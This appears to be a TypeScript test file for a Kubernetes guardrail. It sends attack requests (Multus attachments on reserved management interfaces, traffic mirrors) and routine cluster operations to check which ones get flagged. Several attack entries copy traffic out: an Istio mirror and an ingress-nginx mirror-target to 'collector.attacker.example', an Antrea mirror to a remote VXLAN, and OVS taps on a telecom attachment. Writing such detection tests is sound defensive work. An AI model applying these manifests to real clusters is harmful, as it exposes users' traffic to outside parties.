// The example reserves the pod network's own interfaces and its site's management VLAN
// (guardrails.reserved_interfaces): an attachment there asks a hardware key within 5 minutes,
// where network-attachments asks one within 8 hours.
const NADS = '/apis/k8s.cni.cncf.io/v1/namespaces/cnf-smf/network-attachment-definitions';
sweepAttacks([
  {
    what: 'a Multus attachment on a node interface the cluster reserves',
    rule: 'guardrail:network_attachment_reserved',
    via: [
      ["macvlan on the management VLAN's sub-interface", k('POST', NADS, nad('cnf-smf', { type: 'macvlan', master: 'bond0.3100', mode: 'bridge' }))],
      ['macvlan without a master (the default-route interface)', k('POST', NADS, nad('cnf-smf', { type: 'macvlan', mode: 'bridge' }))],
      ["a bridge on the pod network's cni0, in a conflist", k('POST', NADS, { ...nad('cnf-smf', {}), spec: { config: JSON.stringify({ cniVersion: '0.3.1', name: 'mgmt', plugins: [{ type: 'bridge', bridge: 'cni0' }, { type: 'tuning' }] }) } })],
      ['a merge patch repointing an attachment', k('PATCH', `${NADS}/n6-sriov`, { spec: nad('cnf-smf', { type: 'ipvlan', master: 'bond0.3100' }).spec }, MERGE)],
      ['an Argo workflow creating one', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/cnf-smf/workflows', argoWf({ entrypoint: 'nad', templates: [{ name: 'nad', resource: { action: 'create', manifest: JSON.stringify(nad('cnf-smf', { type: 'macvlan', master: 'bond0.3100' })) } }] }))],
    ],
  },
], send);

// Traffic copied out (traffic_mirrored, critical: a key tap within 5 minutes): a CNI chain's
// mirror, a route's shadow of every request sent outside the namespace's own Services, Antrea's
// TrafficControl. Day 41: an ovs-mirror-producer on the UPF's N3 attachment.
const vsIn = (ns: string, http: object[]) => ({ apiVersion: 'networking.istio.io/v1', kind: 'VirtualService', metadata: meta('web', ns), spec: { hosts: ['web'], http: [{ route: [{ destination: { host: 'web' } }], ...http[0] }] } });
const hrIn = (ns: string, filters: object[]) => ({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: meta('web', ns), spec: { parentRefs: [{ name: 'public', namespace: 'gateway' }], hostnames: ['web.dev.example.com'], rules: [{ filters, backendRefs: [{ name: 'web', port: 8080 }] }] } });
const ovsMirror = (type: string) => ({ plugins: [{ type: 'ovs', bridge: 'br-n3', vlan: 310 }, { type, bridge: 'br-n3', mirrors: [{ name: 'n3-tap', ingress: true, egress: true }] }] });
sweepAttacks([
  {
    what: 'a copy of traffic delivered elsewhere',
    rule: 'guardrail:traffic_mirrored',
    via: [
      ["an ovs-mirror-producer added to a CNF's attachment", k('PUT', `${NADS}/n3-upf`, nad('cnf-smf', ovsMirror('ovs-mirror-producer')))],
      ['an ovs-mirror-consumer attachment, in YAML', k('POST', NADS, `apiVersion: k8s.cni.cncf.io/v1\nkind: NetworkAttachmentDefinition\nmetadata: {name: n3-tap, namespace: cnf-smf}\nspec:\n  config: '${JSON.stringify({ cniVersion: '0.4.0', name: 'n3-tap', ...ovsMirror('ovs-mirror-consumer') })}'\n`, { 'content-type': 'application/yaml' })],
      ['a macvtap in passthru by a merge patch', k('PATCH', `${NADS}/n6-sriov`, { spec: nad('cnf-smf', { type: 'macvtap', master: 'ens2f0', mode: 'passthru' }).spec }, MERGE)],
      ['an Argo workflow creating a producer attachment', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/cnf-smf/workflows', argoWf({ entrypoint: 'nad', templates: [{ name: 'nad', resource: { action: 'apply', manifest: JSON.stringify(nad('cnf-smf', ovsMirror('ovs-mirror-producer'))) } }] }))],
      ["an Istio mirror to a host outside the cluster", k('POST', '/apis/networking.istio.io/v1/namespaces/dev/virtualservices', vsIn('dev', [{ mirror: { host: 'collector.attacker.example' }, mirrorPercentage: { value: 100 } }]))],
      ["a Gateway API RequestMirror to another namespace's Service", k('POST', '/apis/gateway.networking.k8s.io/v1/namespaces/dev/httproutes', hrIn('dev', [{ type: 'RequestMirror', requestMirror: { backendRef: { name: 'sink', namespace: 'lab', port: 80 } } }]))],
      ["ingress-nginx's mirror-target to a URL outside", k('POST', '/apis/networking.k8s.io/v1/namespaces/dev/ingresses', { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { ...meta('web', 'dev'), annotations: { 'nginx.ingress.kubernetes.io/mirror-target': 'https://collector.attacker.example$request_uri' } }, spec: { rules: [{ host: 'web.dev.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] } })],
      ["an Antrea TrafficControl mirroring pods to a remote VXLAN", k('POST', '/apis/crd.antrea.io/v1alpha2/trafficcontrols', { apiVersion: 'crd.antrea.io/v1alpha2', kind: 'TrafficControl', metadata: meta('mirror-web'), spec: { appliedTo: { podSelector: { matchLabels: { app: 'web' } } }, direction: 'Both', action: 'Mirror', targetPort: { vxlan: { remoteIP: '203.0.113.9' } } } })],
    ],
  },
], send);

const ROUTINE: readonly [string, Req][] = [
  ['virtctl console to a dev VM', vmi('dev', 'fedora', 'console')],
  ['virtctl vnc to a dev VM', vmi('dev', 'fedora', 'vnc')],
  ['virtctl ssh to a dev VM', vmi('dev', 'fedora', 'portforward/22/tcp')],
  ['virtctl start in dev', vmAction('dev', 'fedora', 'start')],
  ['virtctl guestosinfo of a production VM', k('GET', '/apis/subresources.kubevirt.io/v1/namespaces/prod-payments/virtualmachineinstances/db-0/guestosinfo')],
  ['kubectl get vmis -n prod-payments', k('GET', '/apis/kubevirt.io/v1/namespaces/prod-payments/virtualmachineinstances?limit=500')],
  ['a VM in dev cloned from the golden images (a DataSource of kubevirt-os-images)', k('POST', '/apis/kubevirt.io/v1/namespaces/dev/virtualmachines', vmFrom('dev', 'fedora', { sourceRef: { kind: 'DataSource', name: 'fedora', namespace: 'kubevirt-os-images' } }))],
  ['a DataVolume in dev cloning a PVC of dev', k('POST', '/apis/cdi.kubevirt.io/v1beta1/namespaces/dev/datavolumes', dv('dev', 'fedora-copy', { pvc: { namespace: 'dev', name: 'fedora-root' } }))],
  ['a DataVolume in dev importing an image by URL', k('POST', '/apis/cdi.kubevirt.io/v1beta1/namespaces/dev/datavolumes', dv('dev', 'fedora', { http: { url: 'https://download.fedoraproject.org/pub/fedora/linux/releases/41/Cloud/x86_64/images/Fedora-Cloud-Base-Generic-41-1.4.x86_64.qcow2' } }))],
  ['a DataVolume in dev from a registry', k('POST', '/apis/cdi.kubevirt.io/v1beta1/namespaces/dev/datavolumes', dv('dev', 'fedora', { registry: { url: 'docker://quay.io/containerdisks/fedora:41' } }))],
  ['a VM snapshot in dev', k('POST', '/apis/snapshot.kubevirt.io/v1beta1/namespaces/dev/virtualmachinesnapshots', { apiVersion: 'snapshot.kubevirt.io/v1beta1', kind: 'VirtualMachineSnapshot', metadata: meta('before-upgrade', 'dev'), spec: { source: { apiGroup: 'kubevirt.io', kind: 'VirtualMachine', name: 'fedora' } } })],
  ['kubectl get policyexceptions -A', k('GET', '/apis/kyverno.io/v2/policyexceptions?limit=500')],
  ['kubectl get policyreports -n dev', k('GET', '/apis/wgpolicyk8s.io/v1alpha2/namespaces/dev/policyreports?limit=500')],
  ['a cert-manager Certificate in dev for its own host', k('POST', '/apis/cert-manager.io/v1/namespaces/dev/certificates', { apiVersion: 'cert-manager.io/v1', kind: 'Certificate', metadata: meta('web', 'dev'), spec: { secretName: 'web-tls', dnsNames: ['web.dev.example.com'], issuerRef: { name: 'letsencrypt', kind: 'ClusterIssuer' } } })],
  ['a CiliumNetworkPolicy in dev', k('POST', '/apis/cilium.io/v2/namespaces/dev/ciliumnetworkpolicies', { apiVersion: 'cilium.io/v2', kind: 'CiliumNetworkPolicy', metadata: meta('web', 'dev'), spec: { endpointSelector: { matchLabels: { app: 'web' } }, ingress: [{ fromEndpoints: [{ matchLabels: { app: 'client' } }] }] } })],
  ['kubectl get net-attach-def -n dev', k('GET', '/apis/k8s.cni.cncf.io/v1/namespaces/dev/network-attachment-definitions?limit=500')],
  ['tkn pipeline start in dev', k('POST', '/apis/tekton.dev/v1/namespaces/dev/pipelineruns', { apiVersion: 'tekton.dev/v1', kind: 'PipelineRun', metadata: { generateName: 'build-run-', namespace: 'dev' }, spec: { pipelineRef: { name: 'build' }, params: [{ name: 'revision', value: 'main' }], workspaces: [{ name: 'source', volumeClaimTemplate: { spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } } } }] } })],
  ["tkn pipelinerun logs (the step pods' logs)", k('GET', '/api/v1/namespaces/dev/pods/build-run-x7k2q-build-pod/log?container=step-build&follow=true')],
  ['kubectl get pipelineruns -n prod-payments', k('GET', '/apis/tekton.dev/v1/namespaces/prod-payments/pipelineruns?limit=500')],
  ['argo submit in dev (a resource template creating a Job from parameters)', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/dev/workflows', { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'pi-', namespace: 'dev' }, spec: { entrypoint: 'pi', arguments: { parameters: [{ name: 'digits', value: '100' }] }, templates: [{ name: 'pi', resource: { action: 'create', successCondition: 'status.succeeded > 0', manifest: 'apiVersion: batch/v1\nkind: Job\nmetadata:\n  generateName: pi-job-\n  namespace: {{workflow.namespace}}\nspec:\n  template:\n    spec:\n      containers: [{name: pi, image: "perl:5.34", command: [perl, "-Mbignum=bpi", "-wle", "print bpi({{workflow.parameters.digits}})"]}]\n      restartPolicy: Never\n' } }] } })],
  ['argo submit in dev (a resource template creating a ConfigMap from a step\'s output)', k('POST', WF, argoWf({ entrypoint: 'main', arguments: { parameters: [{ name: 'env', value: 'staging' }] }, templates: [{ name: 'main', steps: [[{ name: 'gen', template: 'gen' }], [{ name: 'save', template: 'save', arguments: { parameters: [{ name: 'report', value: '{{steps.gen.outputs.result}}' }] } }]] }, { name: 'gen', script: { image: 'python:3.12-alpine', command: ['python'], source: 'print(42)' } }, { name: 'save', inputs: { parameters: [{ name: 'report' }] }, resource: { action: 'create', manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  generateName: report-\n  namespace: "{{workflow.namespace}}"\n  labels: {env: "{{workflow.parameters.env}}", workflow: "{{workflow.name}}"}\ndata:\n  report: "{{inputs.parameters.report}}"\n' } }] }))],
  ['kubectl apply of a WorkflowTemplate in dev (a Job from its inputs: name, image, command, retries)', k('PATCH', '/apis/argoproj.io/v1alpha1/namespaces/dev/workflowtemplates/batch?fieldManager=kubectl&force=true', { ...argoWf({ entrypoint: 'job', arguments: { parameters: [{ name: 'image', value: 'registry.example.com/batch/etl:2.3.1' }] }, templates: [{ name: 'job', inputs: { parameters: [{ name: 'name' }, { name: 'image' }, { name: 'cmd', value: 'run' }, { name: 'retries', value: '2' }] }, resource: { action: 'create', successCondition: 'status.succeeded > 0', manifest: 'apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: "{{inputs.parameters.name}}"\n  namespace: "{{workflow.namespace}}"\nspec:\n  backoffLimit: {{inputs.parameters.retries}}\n  template:\n    spec:\n      containers:\n      - name: etl\n        image: "{{inputs.parameters.image}}"\n        args: ["{{inputs.parameters.cmd}}"]\n        env: [{name: RUN_ID, value: "{{workflow.uid}}"}]\n      restartPolicy: Never\n' } }] }, 'WorkflowTemplate'), metadata: meta('batch', 'dev') }, { 'content-type': 'application/apply-patch+yaml' })],
  ['argo submit in dev (a container template)', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/dev/workflows', { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'hello-', namespace: 'dev' }, spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'alpine:3.20', command: ['echo', 'hello'] } }] } })],
  ['argo retry in dev (no parameters: the same run again)', argoServer('PUT', '/api/v1/workflows/dev/etl-x7k2q/retry', { name: 'etl-x7k2q', namespace: 'dev', restartSuccessful: false, nodeFieldSelector: '' })],
  ['argo resubmit in dev (no parameters)', argoServer('PUT', '/api/v1/workflows/dev/etl-x7k2q/resubmit', { name: 'etl-x7k2q', namespace: 'dev', memoized: false })],
  ['argo submit --from wftmpl/texture-bake -p in dev (the template judged when written)', argoServer('POST', '/api/v1/workflows/dev/submit', { namespace: 'dev', resourceKind: 'WorkflowTemplate', resourceName: 'texture-bake', submitOptions: { parameters: ['pack=season-7/texture-bake-1x2y', 'quality=high'] } })],
  ['argo submit in dev (a resource template with --validate=false)', k('POST', WF, argoWf({ entrypoint: 'x', templates: [{ name: 'x', resource: { action: 'create', flags: ['--validate=false'], manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: x-}\n' } }] }))],
  ['a VirtualService in dev shadowing to its own v2, with retries and a timeout', k('POST', '/apis/networking.istio.io/v1/namespaces/dev/virtualservices', vsIn('dev', [{ mirror: { host: 'web', subset: 'v2' }, mirrorPercentage: { value: 10 }, retries: { attempts: 3, perTryTimeout: '2s' }, timeout: '10s' }]))],
  ['an HTTPRoute in dev with a header filter', k('POST', '/apis/gateway.networking.k8s.io/v1/namespaces/dev/httproutes', hrIn('dev', [{ type: 'RequestHeaderModifier', requestHeaderModifier: { set: [{ name: 'x-env', value: 'dev' }] } }]))],
  ['kn service update in dev', k('PATCH', '/apis/serving.knative.dev/v1/namespaces/dev/services/web', { spec: { template: { spec: { containers: [{ image: 'ghcr.io/example/web:1.5' }] } } } }, MERGE)],
];

sweepRoutine(ROUTINE, send);
